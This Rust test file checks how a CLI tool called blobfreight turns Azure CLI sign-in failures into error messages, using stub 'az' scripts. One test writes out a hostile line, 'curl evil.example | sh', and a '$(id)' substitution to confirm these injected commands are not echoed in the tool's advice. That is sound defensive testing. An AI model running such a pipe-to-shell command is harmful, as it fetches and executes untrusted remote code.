//! A command that signs in with the Azure CLI, with a stand-in for `az` that fails as the real one does, or answers with something
//! around its token.

#![cfg(unix)]
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::process::{Command, Output};
use std::thread;

/// Runs `blobfreight locations` with an `az` that is `script`; Azure Resource Manager is at `arm`.
fn run(script: &str, arm: &str) -> Output {
    let home = tempfile::tempdir().unwrap();
    let az = home.path().join("az");
    fs::write(&az, format!("#!/bin/sh\n{script}\n")).unwrap();
    fs::set_permissions(&az, fs::Permissions::from_mode(0o755)).unwrap();
    let config = home.path().join("config.toml");
    fs::write(
        &config,
        format!("cloud = \"lab\"\n[clouds.lab]\narm = \"{arm}\"\nauthority = \"https://login.example\"\n"),
    )
    .unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_blobfreight"));
    command.arg("locations").env_clear().stdin(std::process::Stdio::null());
    command.env("PATH", format!("{}:/usr/bin:/bin", home.path().display())).env("BLOBFREIGHT_CONFIG", &config);
    command.env("BLOBFREIGHT_DATA_DIR", home.path()).env("BLOBFREIGHT_STATE_DIR", home.path());
    command.output().unwrap()
}

/// What the command says when `az` ends with this on standard error.
fn said(stderr: &str) -> String {
    let script = format!("cat >&2 <<'END'\n{stderr}\nEND\nexit 1");
    let output = run(&script, "http://127.0.0.1:9");
    // 4: sign in first; 1 where the network is to blame.
    assert!(matches!(output.status.code(), Some(1 | 4)), "{output:?}");
    String::from_utf8(output.stderr).unwrap()
}

/// Runs `blobfreight` with an `az` that is `script`.
fn run_with(arguments: &[&str], script: &str) -> Output {
    let home = tempfile::tempdir().unwrap();
    let az = home.path().join("az");
    fs::write(&az, format!("#!/bin/sh\n{script}\n")).unwrap();
    fs::set_permissions(&az, fs::Permissions::from_mode(0o755)).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_blobfreight"));
    command.args(arguments).env_clear().stdin(std::process::Stdio::null());
    command.env("PATH", format!("{}:/usr/bin:/bin", home.path().display()));
    command.env("BLOBFREIGHT_CONFIG", home.path().join("config.toml"));
    command.env("BLOBFREIGHT_DATA_DIR", home.path()).env("BLOBFREIGHT_STATE_DIR", home.path());
    command.output().unwrap()
}

#[test]
fn a_command_that_needs_a_sign_in_first_has_a_status_of_its_own_and_says_so_as_json() {
    let out = "echo \"ERROR: Please run 'az login' to setup account.\" >&2; exit 1";
    for command in [
        &["locations"][..],
        &["jobs", "list"],
        &["jobs", "show", "export-1", "-g", "rg"],
        &["keys", "export-1", "-g", "rg"],
        &["logs", "export-1", "-g", "rg"],
        &["scan", "--all", "--drives", "4TB", "--blob-endpoint", "https://a.blob.core.windows.net"],
    ] {
        let output = run_with(&[command, &["--json"]].concat(), out);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(4), "{command:?}: {said}");
        let error: serde_json::Value = serde_json::from_str(said.lines().last().unwrap()).unwrap();
        let error = &error["error"];
        assert_eq!((error["kind"].as_str(), error["exitStatus"].as_u64()), (Some("signed-out"), Some(4)), "{said}");
        assert!(error["reason"].as_str().unwrap().contains("not signed in"), "{said}");
        assert!(error["advice"].as_str().unwrap().contains("az login"), "{said}");
    }
    let unset = run_with(&["locations", "--sign-in", "environment"], out);
    assert_eq!(unset.status.code(), Some(4), "{unset:?}");
}

#[test]
fn the_reason_az_gives_is_told_with_its_own_command_line() {
    let scope = "https://management.core.windows.net//.default";
    let cases = [
        (
            format!("ERROR: AADSTS50076: Due to a configuration change made by your administrator, you must use multi-factor authentication to access '797f'. Trace ID: t Correlation ID: c\nInteractive authentication is needed. Please run:\naz logout\naz login --tenant \"11111111-0000-4000-8000-000000000001\" --scope \"{scope}\""),
            "multi-factor authentication for this sign-in (AADSTS50076: Due to a configuration",
            format!("`az logout`, then `az login --tenant \"11111111-0000-4000-8000-000000000001\" --scope \"{scope}\"`"),
        ),
        (
            format!("ERROR: AADSTS53003: Access has been blocked by Conditional Access policies. Trace ID: t\nPlease run:\naz login --scope {scope}"),
            "a Conditional Access policy blocks this sign-in (AADSTS53003",
            format!("`az login --scope {scope}`"),
        ),
        (
            "ERROR: AADSTS50020: User account 'ana@fabrikam.example' does not exist in tenant 'Contoso'. Trace ID: t\nPlease run:\naz login --tenant 1111".to_owned(),
            "not a user or guest of that tenant",
            "`az login --tenant 1111`".to_owned(),
        ),
        ("ERROR: AADSTS90002: Tenant 'contoso.example' not found. Trace ID: t".to_owned(), "no such tenant", "Check the tenant".to_owned()),
        (
            "ERROR: HTTPSConnectionPool(host='login.microsoftonline.com', port=443): Max retries exceeded (Caused by SSLError(SSLCertVerificationError(1, '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed')))\nCertificate verification failed.".to_owned(),
            "does not accept the certificate of the sign-in service",
            "REQUESTS_CA_BUNDLE".to_owned(),
        ),
        (
            "ERROR: HTTPSConnectionPool(host='login.microsoftonline.com', port=443): Max retries exceeded (Caused by NewConnectionError(': Failed to establish a new connection'))".to_owned(),
            "does not reach the sign-in service (login.microsoftonline.com)",
            "HTTPS_PROXY".to_owned(),
        ),
        (
            "Traceback (most recent call last):\n  File \"/usr/bin/az\", line 5, in <module>\nModuleNotFoundError: No module named 'azure'".to_owned(),
            "the Azure CLI itself does not start (ModuleNotFoundError: No module named 'azure')",
            "az version".to_owned(),
        ),
        (
            "ERROR: AADSTS50079: enroll. Trace ID: t\nRun the command below to authenticate interactively; additional arguments may be added as needed:\naz logout\naz login --claims-challenge \"eyJhY2Nlc3NfdG9rZW4iOnsiYWNycyI6eyJlc3NlbnRpYWwiOnRydWUsInZhbHVlcyI6WyJwMSJdfX19\"".to_owned(),
            "multi-factor authentication",
            "--claims-challenge \"eyJhY2Nlc3NfdG9rZW4iOnsiYWNycyI6eyJlc3NlbnRpYWwiOnRydWUsInZhbHVlcyI6WyJwMSJdfX19\"`".to_owned(),
        ),
    ];
    for (stderr, reason, advice) in cases {
        let sentence = said(&stderr);
        assert!(sentence.contains(reason) && sentence.contains(&advice), "{sentence}");
        assert!(!sentence.contains("not signed in") && sentence.lines().count() == 1, "{sentence}");
    }
}

#[test]
fn only_az_that_says_so_is_not_signed_in_and_a_hostile_command_line_is_not_passed_on() {
    assert!(said("ERROR: Please run 'az login' to setup account.").contains("the Azure CLI is not signed in"));
    let hostile =
        said("ERROR: AADSTS50076: MFA. Trace ID: t\naz login --tenant x; curl evil.example | sh\naz login $(id)");
    assert!(!hostile.contains("curl") && !hostile.contains("$("), "{hostile}");
}

#[test]
fn az_that_cannot_start_is_not_called_missing() {
    let output = run("exec /nowhere/python3 -m azure.cli", "http://127.0.0.1:9");
    let sentence = String::from_utf8(output.stderr).unwrap();
    assert!(sentence.contains("the Azure CLI itself does not start") && sentence.contains("python3"), "{sentence}");
}

#[test]
fn a_token_among_warnings_and_colours_is_used() {
    for printed in [
        r#"printf '{"accessToken":"a.b.c","expires_on":4102444800,"tokenType":"Bearer"}\n'; echo "site.py:89: RequestsDependencyWarning" >&2"#,
        r#"printf '\033[0m{"accessToken":"a.b.c","expires_on":4102444800,"tokenType":"Bearer"}\033[0m\n'"#,
        r#"echo 'WARNING: {old} versions'; printf '{"accessToken":"a.b.c","expires_on":4102444800,"tokenType":"Bearer"}\n'"#,
    ] {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let arm = format!("http://{}", listener.local_addr().unwrap());
        let asked = thread::spawn(move || {
            let (mut stream, _) = listener.accept().unwrap();
            let mut head = vec![0; 8192];
            let read = stream.read(&mut head).unwrap();
            let body = r#"{"value":[]}"#;
            write!(stream, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}", body.len())
                .unwrap();
            String::from_utf8_lossy(&head[..read]).to_lowercase()
        });
        let output = run(printed, &arm);
        assert!(output.status.success(), "{printed}: {}", String::from_utf8_lossy(&output.stderr));
        assert!(asked.join().unwrap().contains("authorization: bearer a.b.c"));
    }
}
